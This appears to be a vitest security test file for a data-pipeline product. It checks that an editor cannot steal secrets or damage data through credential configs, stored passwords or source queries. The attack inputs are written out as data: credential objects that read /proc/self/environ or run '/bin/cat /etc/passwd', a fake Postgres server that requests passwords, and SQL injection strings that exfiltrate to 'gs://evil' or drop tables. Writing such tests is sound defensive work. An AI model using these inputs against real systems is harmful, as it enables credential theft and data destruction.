/** What an editor could try with what editors write: credentials, addresses and queries. On the running product. */
import { once } from "node:events";
import { createServer as createHttpServer } from "node:http";
import { createServer as createTcpServer, type AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect } from "vitest";

import { warehouseOf } from "@datamantri/local-stack";

import { openApi, type CallApi } from "../call-api.ts";
import { inDatabase } from "../in-database.ts";
import { test } from "../fixtures.ts";
import { awaitEnd, createPipeline, pipelineBody, trigger, type TestStack } from "../test-stack.ts";

let product: TestStack;
/** As an administrator. */
let admin: CallApi;
/** As an editor. */
let call: CallApi;
/** Where an attacker listens: whatever arrives there was stolen. */
let web: { readonly url: string; readonly heard: string[] };
let postgres: { readonly port: number; readonly heard: () => string };

const password = "correct horse battery staple";
const source = { dataset: "flights", table: "airports" };
const closing: (() => void)[] = [];

test.beforeAll(async ({ product: shared }) => {
  product = shared;
  admin = await openApi(product);
  await admin("POST", "/api/v1/users", { body: { email: "editor@example.com", role: "editor", password } });
  const access = { ...product.access, email: "editor@example.com", password };
  call = await openApi({ ...product, access });
  web = await listenHttp();
  postgres = await listenPostgres();
});
afterAll(async () => {
  for (const close of closing) close();
});

async function listenHttp(): Promise<typeof web> {
  const heard: string[] = [];
  const server = createHttpServer((request, response) => {
    heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    request.on("data", (data: Buffer) => heard.push(data.toString()));
    // As a token server does, so that a theft would go on.
    response.setHeader("content-type", "application/json").end('{"access_token":"x","expires_in":3600}');
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  closing.push(() => server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard };
}

/** Asks every client for its password. https://www.postgresql.org/docs/current/protocol-message-formats.html */
async function listenPostgres(): Promise<typeof postgres> {
  const heard: Buffer[] = [];
  const server = createTcpServer((socket) => {
    socket.on("error", () => undefined);
    socket.on("data", (data) => heard.push(data));
    socket.once("data", () => socket.write(Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 3])));
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  closing.push(() => server.close());
  const { port } = server.address() as AddressInfo;
  return { port, heard: () => Buffer.concat(heard).toString("latin1") };
}

describe("credentials are data, no program", () => {
  const federated = (more: object) => ({
    type: "external_account",
    audience: "//iam.googleapis.com/x",
    subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
    ...more,
  });
  const file = "/proc/self/environ";
  const attacks: readonly (readonly [string, () => object])[] = [
    ["the extractor's environment", () => federated({ token_url: web.url, credential_source: { file } })],
    ["the same in camel case", () => federated({ tokenUrl: web.url, credentialSource: { file } })],
    ["an address inside", () => federated({ token_url: web.url, credential_source: { url: `${web.url}/inside` } })],
    [
      "a program",
      () => federated({ token_url: web.url, credential_source: { executable: { command: "/bin/cat /etc/passwd" } } }),
    ],
    [
      "a chain of accounts",
      () => ({
        type: "impersonated_service_account",
        source_credentials: federated({ token_url: web.url }),
        service_account_impersonation_url: web.url,
      }),
    ],
    [
      "a token server of their own",
      () => ({ type: "authorized_user", client_id: "a", client_secret: "b", refresh_token: "c", token_uri: web.url }),
    ],
    [
      "a universe of their own",
      () => ({
        type: "authorized_user",
        client_id: "a",
        client_secret: "b",
        refresh_token: "c",
        universe_domain: "evil.example",
      }),
    ],
  ];

  test.each(attacks)("%s", async (_, credentials) => {
    // At a server that responds: else the check ends before credentials are used.
    const config = { project: "sandbox", api_endpoint: product.access.bigquery, credentials: credentials() };
    const { status, text } = await call("POST", "/api/v1/connections/test", { body: { kind: "bigquery", config } });
    expect([status, text]).toEqual([expect.any(Number), expect.stringContaining("source_credentials_invalid")]);
    expect(text).not.toMatch(/NATS_URL|nats:|root:/);
    const made = await call("POST", "/api/v1/pipelines", {
      body: {
        ...pipelineBody(product, { name: `theft-${crypto.randomUUID()}`, source }),
        source_config: { ...config, ...source },
      },
    });
    if (made.status === 201) {
      const runId = await trigger(product, made.json["id"] as string);
      expect(await awaitEnd(product, runId)).toMatchObject({ status: "failed" });
    } else expect(made.json).toMatchObject({ code: "source_credentials_invalid" });
    expect(web.heard).toEqual([]);
  });
});

describe("a stored password is for its own server", () => {
  test("a pipeline that another editor made sends it nowhere else", async () => {
    const id = await createPipeline(product, { name: "kept", source });
    const own = (await call("GET", `/api/v1/pipelines/${id}`)).json as { destination_config: object };
    const { destination_config: destination } = own;
    const { password: _own, ...server } = warehouseOf(product.access);
    for (const change of [
      { port: postgres.port },
      { ssl_mode: "require" },
      { user: "datamantri_registry" },
      { database: "postgres" },
    ]) {
      const body = {
        ...pipelineBody(product, { name: "kept", source }),
        destination_config: { ...destination, ...change },
      };
      const headers = { "if-match": "*" };
      expect((await call("PUT", `/api/v1/pipelines/${id}`, { body, headers })).json).toMatchObject({
        code: "request_invalid",
        detail: expect.stringContaining("needed again") as string,
      });
      const asked = await call("POST", "/api/v1/connections/test", {
        body: { kind: "postgres", config: { ...server, ...change }, pipeline_id: id },
      });
      expect(asked.text).toContain("needed again");
    }
    expect(await awaitEnd(product, await trigger(product, id))).toMatchObject({ status: "success" });
    expect(postgres.heard()).not.toContain("kept");
  });

  test("a server that asks for the password itself gets none, though it was given for it", async () => {
    const destination = { port: postgres.port, password: "canary-for-the-fake" };
    const id = await createPipeline(product, { name: "fake", source, destination });
    const run = await awaitEnd(product, await trigger(product, id));
    expect(run).toMatchObject({ status: "failed", error_code: "sink_credentials_invalid" });
    expect(postgres.heard()).toContain("user\0");
    expect(postgres.heard()).not.toContain("canary");
  });
});

test("the product's own database is no destination, and the warehouse's user cannot read it", async () => {
  const id = await createPipeline(product, {
    name: "inward",
    source,
    destination: { database: "datamantri_registry" },
  });
  const run = await awaitEnd(product, await trigger(product, id));
  expect(run).toMatchObject({
    status: "failed",
    error_code: expect.stringMatching(/^sink_(credentials|permission)/) as string,
  });
  const url = new URL(product.access.postgres);
  url.pathname = "/datamantri_registry";
  await expect(inDatabase(url.href, "select * from users")).rejects.toThrow(/permission denied/);
});

describe("a query is one SELECT", () => {
  const table = "`sandbox`.`flights`.`airports`";
  test.each([
    `delete from ${table} where true`,
    `update ${table} set iata = 'x' where true`,
    `insert into ${table} (iata) values ('x')`,
    `truncate table ${table}`,
    `drop table ${table}`,
    `create or replace table ${table} as select 1 as a`,
    `select 1 as a; drop table ${table}`,
    `/* select */ drop table ${table} -- select`,
    `export data options (uri = 'gs://evil/*.csv', format = 'CSV') as select * from ${table}`,
    `call sandbox.flights.procedure()`,
    `begin delete from ${table} where true; end`,
    `execute immediate 'drop table ${table.replaceAll("`", "")}'`,
    `grant \`roles/bigquery.admin\` on table ${table} to 'user:evil@example.com'`,
  ])("%s", async (query) => {
    const body = {
      ...pipelineBody(product, { name: `query-${crypto.randomUUID()}`, source }),
      source_config: { project: "sandbox", api_endpoint: product.access.bigquery, query },
    };
    for (const path of ["/api/v1/pipelines/validate", "/api/v1/pipelines/estimate"]) {
      const { text } = await call("POST", path, { body });
      expect(text).toContain("source_query_invalid");
    }
    const made = await call("POST", "/api/v1/pipelines", { body });
    if (made.status === 201) {
      const run = await awaitEnd(product, await trigger(product, made.json["id"] as string));
      expect(run).toMatchObject({ status: "failed", error_code: "source_query_invalid" });
    } else expect(made.json).toMatchObject({ code: "source_query_invalid" });
    expect(await countAirports()).toBe(airportCount);
  });

  beforeAll(async () => {
    airportCount = await countAirports();
    expect(airportCount).toBeGreaterThan(0);
  });
});

let airportCount: number;

async function countAirports(): Promise<number> {
  const url = `${product.access.bigquery}/bigquery/v2/projects/sandbox/datasets/flights/tables/airports`;
  return Number(((await (await fetch(url)).json()) as { numRows: string }).numRows);
}
